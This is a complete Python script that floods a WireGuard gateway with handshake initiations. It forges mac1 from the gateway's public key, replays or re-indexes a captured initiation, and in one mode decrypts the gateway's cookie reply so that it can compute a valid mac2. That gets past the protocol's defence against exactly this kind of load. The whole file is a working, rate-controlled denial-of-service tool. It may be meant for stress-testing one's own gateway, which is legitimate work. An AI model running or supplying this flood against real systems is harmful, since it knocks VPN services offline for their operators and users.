#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods an address with handshake initiations that lead to nothing.

  wg_flood.py KIND HOST PORT RATE SECONDS KEY [CAPTURE]

KIND     mac1     no initiation of anybody who knows KEY: the first mac is wrong
         unknown  the initiation in CAPTURE, each with an index of its own and the first mac made anew
         replay   the initiation in CAPTURE, as it is
         cookies  as unknown; once a cookie came the second mac is right, too
KEY      the public key of the gateway, in base64
CAPTURE  a pcap file (Ethernet) whose first frame ends in an initiation

Stops after SECONDS or by SIGTERM, and prints how many were sent, in how many seconds, and how many answers
came. All messages are made before the first is sent. Only the standard library is used.
"""
import base64
import os
import signal
import socket
import struct
import sys
import time
from hashlib import blake2s

INITIATION, MACS, COOKIE = 148, 32, 64
MESSAGES = 4096
TURN = 0.001  # seconds


def label_key(label, pub):
    return blake2s(label + pub).digest()


def with_index(message, index, mac1_key):
    """The index is no part of what the initiator's keys seal, so any number of messages comes of one."""
    m = message[:4] + struct.pack("<I", index) + message[8:INITIATION - MACS]
    return m + blake2s(m, key=mac1_key, digest_size=16).digest() + bytes(16)


def with_mac2(message, cookie):
    m = message[:-16]
    return m + blake2s(m, key=cookie, digest_size=16).digest()


def captured(path):
    with open(path, "rb") as f:
        f.read(24)
        size = struct.unpack("<I", f.read(16)[8:12])[0]
        message = f.read(size)[-INITIATION:]
    if len(message) != INITIATION or message[:4] != b"\1\0\0\0":
        sys.exit(f"{path}: its first frame is no initiation")
    return message


def prepare(kind, pub, path):
    if kind == "mac1":
        return [b"\1\0\0\0" + os.urandom(INITIATION - 4) for _ in range(MESSAGES)]
    message = captured(path)
    if kind == "replay":
        return [message]
    key = label_key(b"mac1----", pub)
    return [with_index(message, i, key) for i in range(MESSAGES)]


# --- a cookie: sixteen bytes under XChaCha20 (draft-irtf-cfrg-xchacha); whether it is a right one will show ---

def quarter(s, a, b, c, d):
    for x, y, z, bits in ((a, b, d, 16), (c, d, b, 12), (a, b, d, 8), (c, d, b, 7)):
        s[x] = (s[x] + s[y]) & 0xFFFFFFFF
        s[z] ^= s[x]
        s[z] = (s[z] << bits | s[z] >> (32 - bits)) & 0xFFFFFFFF


def twenty_rounds(key, last16):
    begin = list(struct.unpack("<16I", b"expand 32-byte k" + key + last16))
    s = begin[:]
    for _ in range(10):
        for i in range(4):
            quarter(s, i, 4 + i, 8 + i, 12 + i)
        for i in range(4):
            quarter(s, i, 4 + (i + 1) % 4, 8 + (i + 2) % 4, 12 + (i + 3) % 4)
    return begin, s


def cookie_in(reply, pub):
    nonce, sealed = reply[8:32], reply[32:48]
    _, s = twenty_rounds(label_key(b"cookie--", pub), nonce[:16])
    subkey = struct.pack("<8I", *s[:4], *s[12:])
    begin, s = twenty_rounds(subkey, struct.pack("<I", 1) + bytes(4) + nonce[16:])
    stream = struct.pack("<4I", *((x + y) & 0xFFFFFFFF for x, y in zip(begin[:4], s[:4])))
    return bytes(x ^ y for x, y in zip(sealed, stream))


# --- the flood ---

def answers(sock):
    """What came so far."""
    got = []
    try:
        while True:
            got.append(sock.recv(2048))
    except OSError:
        return got


def flood(sock, messages, rate, seconds, pub, wants_cookie):
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(1))
    sent, got, began = 0, 0, time.monotonic()
    while not ended and (passed := time.monotonic() - began) < seconds:
        # what a busy machine missed is not made up for at once
        for _ in range(min(int(passed * rate) - sent, int(rate * TURN * 20))):
            try:
                sock.send(messages[sent % len(messages)])
            except ConnectionRefusedError:  # a closed port
                pass
            sent += 1
        replies = answers(sock)
        got += len(replies)
        cookies = [r for r in replies if len(r) == COOKIE and r[:4] == b"\3\0\0\0"]
        if wants_cookie and cookies:
            cookie = cookie_in(cookies[0], pub)
            messages = [with_mac2(m, cookie) for m in messages]
            wants_cookie = False
        time.sleep(TURN)
    return sent, time.monotonic() - began, got


def main(kind, host, port, rate, seconds, key, path=None):
    pub = base64.b64decode(key)
    messages = prepare(kind, pub, path)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((host, int(port)))
        sock.setblocking(False)
        print("ready", flush=True)
        sent, took, got = flood(sock, messages, float(rate), float(seconds), pub, kind == "cookies")
    print(f"sent {sent} in {took:.2f} s, {got} answers")


main(*sys.argv[1:])
